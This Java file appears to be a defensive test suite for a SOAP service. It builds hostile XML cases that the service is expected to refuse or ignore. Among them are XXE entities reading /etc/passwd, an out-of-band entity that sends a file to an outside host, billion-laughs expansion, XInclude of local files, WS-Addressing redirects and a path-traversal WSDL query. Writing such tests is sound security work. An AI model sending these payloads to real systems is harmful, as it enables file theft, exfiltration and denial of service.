package org.pledge.distribution;

import static org.pledge.distribution.Attack.MARKER;
import static org.pledge.distribution.Attack.ignored;
import static org.pledge.distribution.Attack.refused;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

/** What XML, SOAP and the WS-* family can hold. */
final class HostileXml {
    private static final String SOAP = "http://schemas.xmlsoap.org/soap/envelope/";
    private static final String XML = "Content-Type: text/xml; charset=utf-8";
    private static final String NOBODY = "018f3a52-6c1e-4b7a-9d20-5e8f7a6b4c31";
    private static final String WSSE =
            "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd";
    private static final String DIGEST =
            "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest";

    private HostileXml() {}

    static List<Attack> all(Attack.Ground ground) {
        List<Attack> all = new ArrayList<>();
        all.addAll(entities(ground));
        all.addAll(shapes(ground));
        all.addAll(references(ground));
        all.addAll(wrappings(ground));
        return all;
    }

    private static List<Attack> entities(Attack.Ground ground) {
        String http = ground.elsewhere();
        List<Attack> all = new ArrayList<>();
        List.of(
                        new String[] {"an entity from a file", "<!ENTITY e SYSTEM \"file:///etc/passwd\">"},
                        new String[] {"an entity over HTTP", "<!ENTITY e SYSTEM \"" + http + "\">"},
                        new String[] {"an entity over FTP", "<!ENTITY e SYSTEM \"" + http.replace("http", "ftp") + "\">"
                        },
                        new String[] {"a public entity", "<!ENTITY e PUBLIC \"-//a//b\" \"" + http + "\">"},
                        new String[] {"an entity out of a jar", "<!ENTITY e SYSTEM \"jar:" + http + "!/a\">"},
                        new String[] {
                            "a parameter entity", "<!ENTITY % p SYSTEM \"" + http + "\"> %p; <!ENTITY e \"a\">"
                        },
                        new String[] {
                            "a parameter entity that sends a file",
                            "<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % d \"<!ENTITY &#37; x SYSTEM '"
                                    + http + "?%f;'>\"> %d; %x; <!ENTITY e \"a\">"
                        },
                        new String[] {"a billion laughs", laughs()},
                        new String[] {"an entity that holds itself", "<!ENTITY e \"&e;\">"},
                        new String[] {"an entity, quadratic", "<!ENTITY e \"" + MARKER.repeat(3_000) + "\">"},
                        new String[] {
                            "an unparsed entity",
                            "<!NOTATION n SYSTEM \"" + http + "\"><!ENTITY e SYSTEM \"a\" NDATA n>"
                        },
                        new String[] {
                            "a default attribute", "<!ENTITY e \"a\"><!ATTLIST Envelope a CDATA \"" + MARKER + "\">"
                        })
                .forEach(one -> all.add(refused(
                        one[0],
                        ground.soap("<!DOCTYPE a [" + one[1] + "]>" + envelope("", decide("&e;".repeat(20)))))));
        all.add(refused(
                "a document type elsewhere",
                ground.soap("<!DOCTYPE a SYSTEM \"" + http + "\">" + envelope("", decide("a")))));
        all.add(refused("an empty document type", ground.soap("<!DOCTYPE a>" + envelope("", decide("a")))));
        all.add(refused("an entity nobody declared", ground.soap(envelope("", decide("&" + MARKER + ";")))));
        all.add(refused("a character that is none", ground.soap(envelope("", decide("&#0;" + MARKER)))));
        return all;
    }

    private static List<Attack> shapes(Attack.Ground ground) {
        StringBuilder attributes = new StringBuilder();
        StringBuilder namespaces = new StringBuilder();
        for (int i = 0; i < 3_000; i++) {
            attributes.append(" a").append(i).append("=\"").append(i).append('"');
            namespaces.append(" xmlns:n").append(i).append("=\"urn:").append(i).append('"');
        }
        List<Attack> all = new ArrayList<>();
        List.of(
                        new String[] {"elements, deep", "<a>".repeat(10_000) + "</a>".repeat(10_000)},
                        new String[] {"elements, a little too deep", "<a>".repeat(40) + "</a>".repeat(40)},
                        new String[] {"elements, many", "<a/>".repeat(12_000)},
                        new String[] {"attributes, many", "<a" + attributes + "/>"},
                        new String[] {"an attribute, huge", "<a b=\"" + MARKER.repeat(5_000) + "\"/>"},
                        new String[] {"namespaces, many", "<a" + namespaces + "/>"},
                        new String[] {"a name, huge", "<" + MARKER.repeat(5_000) + "/>"},
                        new String[] {"a text, huge", "<a>" + MARKER.repeat(6_000) + "</a>"},
                        new String[] {"character data, huge", "<a><![CDATA[" + MARKER.repeat(6_000) + "]]></a>"},
                        new String[] {"a comment, huge", "<!--" + MARKER.repeat(6_000) + "--><a/>"},
                        new String[] {"an instruction", "<?" + MARKER + " a?><a/>"},
                        new String[] {"an element left open", "<a>" + MARKER},
                        new String[] {"the same attribute twice", "<a " + MARKER + "=\"1\" " + MARKER + "=\"1\"/>"},
                        new String[] {"a prefix nobody declared", "<" + MARKER + ":a/>"},
                        new String[] {"an operation nobody has", "<" + MARKER + " xmlns=\"urn:pledge:sharing:v1\"/>"},
                        new String[] {"two operations", decide(MARKER) + decide(MARKER)})
                .forEach(one -> all.add(refused(one[0], ground.soap(envelope("", one[1])))));
        all.add(refused("a message over the limit", ground.soap(envelope("", decide("a".repeat(3_000_000))))));
        all.add(refused(
                "an instruction before the message",
                ground.soap("<?xml-stylesheet type=\"text/xsl\" href=\"" + ground.elsewhere() + "\"?>"
                        + envelope("", decide("a")))));
        all.add(refused("two messages", ground.soap(envelope("", decide("a")) + envelope("", decide(MARKER)))));
        all.add(refused("no message", ground.soap("")));
        all.add(refused("no body", ground.soap("<s:Envelope xmlns:s=\"" + SOAP + "\"/>")));
        for (String content : List.of(
                " ",
                MARKER,
                "<s:Header/>",
                "<Body xmlns=\"urn:" + MARKER + "\"/>",
                "<s:Body/>",
                "<s:Body/><s:Body/>")) {
            all.add(refused(
                    "no body but " + content.replace(MARKER, "another"),
                    ground.soap("<s:Envelope xmlns:s=\"" + SOAP + "\">" + content + "</s:Envelope>")));
        }
        all.add(refused(
                "SOAP 1.2",
                ground.soap(envelope("", decide("a")).replace(SOAP, "http://www.w3.org/2003/05/soap-envelope"))));
        all.add(refused("XML 1.1", ground.soap("<?xml version=\"1.1\"?>" + envelope("", decide("\u0085" + MARKER)))));
        return all;
    }

    private static List<Attack> references(Attack.Ground ground) {
        String http = ground.elsewhere();
        String wsa = " xmlns:w=\"http://www.w3.org/2005/08/addressing\"";
        byte[] plain = ground.soap(envelope("", decide("a")));
        String xsi = " xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\"";
        List<Attack> all = new ArrayList<>();
        for (String target : List.of("ReplyTo", "FaultTo", "From")) {
            for (String must : List.of("", " s:mustUnderstand=\"1\"")) {
                byte[] message = ground.soap(envelope(
                        "<w:" + target + wsa + must + "><w:Address>" + http + "</w:Address></w:" + target + ">"
                                + "<w:MessageID" + wsa + ">" + MARKER + "</w:MessageID>"
                                + "<w:Action" + wsa + ">" + MARKER + "</w:Action>",
                        decide("a")));
                String name = "WS-Addressing " + target + must;
                all.add(must.isEmpty() ? ignored(name, message, plain) : refused(name, message));
            }
        }
        all.add(ignored(
                "WS-Addressing of 2004",
                ground.soap(envelope(
                        "<w:ReplyTo xmlns:w=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\"><w:Address>" + http
                                + "</w:Address></w:ReplyTo>",
                        decide("a"))),
                plain));
        all.add(refused(
                "a header that must be understood",
                ground.soap(envelope("<" + MARKER + " xmlns=\"urn:a\" s:mustUnderstand=\"1\"/>", decide("a")))));
        all.add(
                refused(
                        "XInclude of a file",
                        ground.soap(
                                envelope(
                                        "",
                                        decide(
                                                "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>")))));
        all.add(refused(
                "XInclude over HTTP",
                ground.soap(envelope(
                        "",
                        decide("<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"" + http + "\"/>")))));
        all.add(ignored(
                "a schema elsewhere",
                ground.soap(envelope(
                        "",
                        decide("a")
                                .replace(
                                        "<decide",
                                        "<decide" + xsi + " i:schemaLocation=\"urn:pledge:sharing:v1 " + http + "\""))),
                plain));
        all.add(ignored(
                "a schema without namespace elsewhere",
                ground.soap(envelope(
                        "",
                        decide("a")
                                .replace(
                                        "<decide", "<decide" + xsi + " i:noNamespaceSchemaLocation=\"" + http + "\""))),
                plain));
        all.add(refused(
                "a type to make",
                ground.soap(envelope(
                        "", decide("a").replace("<subject", "<subject" + xsi + " i:type=\"" + MARKER + "\"")))));
        all.add(refused(
                "nil",
                ground.soap(envelope("", decide("a").replace("<subject", "<subject" + xsi + " i:nil=\"true\"")))));
        all.add(refused(
                "an encoded reference",
                ground.soap(envelope("", decide("a").replace("<subject", "<subject href=\"" + http + "\"")))));
        all.add(refused(
                "a signature over something elsewhere",
                ground.soap(envelope(
                        "<t:Security xmlns:t=\"" + WSSE
                                + "\"><d:Signature xmlns:d=\"http://www.w3.org/2000/09/xmldsig#\">"
                                + "<d:SignedInfo><d:Reference URI=\"" + http
                                + "\"/></d:SignedInfo></d:Signature></t:Security>",
                        decide("a")))));
        all.add(refused(
                "a user name beside the token",
                ground.soap(envelope(
                        "<t:Security xmlns:t=\"" + WSSE + "\"><t:UsernameToken><t:Username>" + MARKER
                                + "</t:Username></t:UsernameToken></t:Security>",
                        decide("a")))));
        all.add(refused(
                "a user name of another tenant",
                anonymous(
                        ground,
                        envelope(
                                "<t:Security xmlns:t=\"" + WSSE + "\" xmlns:u=\"" + WSSE.replace("secext", "utility")
                                        + "\">"
                                        + "<t:UsernameToken><t:Username>anyip/" + MARKER
                                        + "</t:Username><t:Password Type=\"" + DIGEST
                                        + "\">AAAAAAAAAAAAAAAAAAAAAAAAAAA=</t:Password><t:Nonce>AAAAAAAAAAA=</t:Nonce>"
                                        + "<u:Created>2026-01-01T00:00:00Z</u:Created></t:UsernameToken></t:Security>",
                                decide("a")))));
        all.add(refused(
                "user names, nested",
                anonymous(
                        ground,
                        envelope(
                                "<t:Security xmlns:t=\"" + WSSE + "\">" + "<t:UsernameToken>".repeat(20) + MARKER
                                        + "</t:UsernameToken>".repeat(20) + "</t:Security>",
                                decide("a")))));
        return all;
    }

    private static List<Attack> wrappings(Attack.Ground ground) {
        String message = envelope("", decide("a"));
        String xop = "--b\r\nContent-Type: application/xop+xml; type=\"text/xml\"\r\nContent-ID: <a@" + MARKER
                + ">\r\n\r\n"
                + envelope(
                        "",
                        decide("<x:Include xmlns:x=\"http://www.w3.org/2004/08/xop/include\" href=\""
                                + ground.elsewhere() + "\"/>"))
                + "\r\n--b\r\nContent-ID: <b@" + MARKER + ">\r\n\r\n" + MARKER.repeat(1_000) + "\r\n--b--\r\n";
        List<Attack> all = new ArrayList<>();
        all.add(
                refused(
                        "MTOM",
                        ground.soap(
                                xop,
                                "Content-Type: multipart/related; boundary=b; type=\"application/xop+xml\"; start-info=\"text/xml\"")));
        all.add(refused(
                "attachments",
                ground.soap(xop.repeat(50), "Content-Type: multipart/related; boundary=b; type=\"text/xml\"")));
        all.add(refused("MTOM under the name of XML", ground.soap(xop, XML)));
        for (String type : List.of(
                "application/soap+xml",
                "application/json",
                "application/fastinfoset",
                "application/octet-stream",
                "text/xml; charset=utf-7",
                "text/xml; charset=" + MARKER,
                "text/xml; boundary=" + MARKER,
                "text/html",
                MARKER)) {
            all.add(refused("SOAP as " + type, ground.soap(message, "Content-Type: " + type)));
        }
        for (String encoding : List.of("gzip", "GZIP", "deflate", "identity")) {
            all.add(refused(
                    "SOAP compressed as " + encoding,
                    ground.post("/soap/v1", HostileJson.bomb(), XML, "Content-Encoding: " + encoding)));
        }
        String strange = "<?xml version=\"1.0\" encoding=\"Cp037\"?>" + message;
        all.add(refused(
                "EBCDIC",
                ground.post("/soap/v1", strange.getBytes(Charset.forName("Cp037")), "Content-Type: text/xml")));
        all.add(refused(
                "UTF-32",
                ground.post("/soap/v1", message.getBytes(Charset.forName("UTF-32")), "Content-Type: text/xml")));
        all.add(refused(
                "bytes that are no UTF-8",
                ground.post(
                        "/soap/v1",
                        message.replace(">a<", ">\u00ff\u00fe<").getBytes(StandardCharsets.ISO_8859_1),
                        XML)));
        Map.of(
                        "in a name", message.replace("decide", "d\u00e9cide"),
                        "in an attribute", message.replace("<decide ", "<decide a=\"\u00ff\" "),
                        "before the message", "\u00ff" + message,
                        "after the message", message + "\u00ff",
                        "cut off", message + "<!--\u00e2\u0082",
                        "too long", message.replace(">a<", ">\u00c0\u00af<"),
                        "half a pair", message.replace(">a<", ">\u00ed\u00a0\u0080<"))
                .forEach((where, text) -> all.add(refused(
                        "bytes that are no UTF-8, " + where,
                        ground.post(
                                "/soap/v1", text.getBytes(StandardCharsets.ISO_8859_1), "Content-Type: text/xml"))));
        for (String declared : List.of("UTF-16", "ISO-8859-1", "x-" + MARKER, "../" + MARKER)) {
            all.add(refused(
                    "the encoding " + declared.replace(MARKER, "unknown"),
                    ground.soap(
                            "<?xml version=\"1.0\" encoding=\"" + declared + "\"?>" + message,
                            "Content-Type: text/xml")));
        }
        all.add(refused(
                "UTF-16 with a byte too few",
                ground.post(
                        "/soap/v1",
                        Arrays.copyOf(message.getBytes(StandardCharsets.UTF_16), 2 * message.length() + 1),
                        "Content-Type: text/xml; charset=utf-16")));
        for (String query : List.of(
                "wsdl=../../etc/passwd", "wsdl&" + MARKER, "xsd=" + ground.elsewhere(), MARKER, "stylesheet=1", "js")) {
            all.add(refused("the query " + query, ground.get("/soap/v1?" + query)));
        }
        all.add(refused("a path below the service", ground.get("/soap/v1/" + MARKER + "?wsdl")));
        all.add(refused("an operation as a path", ground.get("/soap/v1/decide?subject=" + MARKER)));
        return all;
    }

    private static byte[] anonymous(Attack.Ground ground, String envelope) {
        String text = new String(ground.soap(envelope), StandardCharsets.UTF_8);
        return text.replace("Authorization: Bearer " + ground.token() + "\r\n", "")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static String envelope(String header, String body) {
        return "<s:Envelope xmlns:s=\"" + SOAP + "\"><s:Header>" + header + "</s:Header><s:Body>" + body
                + "</s:Body></s:Envelope>";
    }

    private static String decide(String purpose) {
        return "<decide xmlns=\"urn:pledge:sharing:v1\"><subject>" + NOBODY
                + "</subject><partner>carrier</partner><purpose>" + purpose + "</purpose><field>email</field></decide>";
    }

    private static String laughs() {
        StringBuilder entities = new StringBuilder("<!ENTITY l0 \"" + MARKER + "\">");
        for (int i = 1; i < 10; i++) {
            entities.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return entities + "<!ENTITY e \"&l9;\">";
    }
}
